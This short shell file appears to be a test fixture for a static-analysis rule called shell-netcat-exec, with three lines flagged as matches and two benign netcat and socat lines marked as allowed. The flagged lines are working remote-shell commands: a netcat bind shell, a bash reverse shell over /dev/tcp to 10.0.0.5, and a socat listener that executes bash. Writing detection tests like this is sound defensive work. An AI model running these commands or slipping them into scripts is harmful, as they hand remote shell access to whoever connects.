#!/bin/sh
# ruleid: shell-netcat-exec
nc -l -p 4444 -e /bin/sh
# ruleid: shell-netcat-exec
bash -i >& /dev/tcp/10.0.0.5/4444 0>&1
# ruleid: shell-netcat-exec
socat TCP-LISTEN:4444,fork EXEC:/bin/bash
# ok: shell-netcat-exec
nc -z -w 3 db.internal 5432
# ok: shell-netcat-exec
socat TCP-LISTEN:8080,fork TCP:app:80
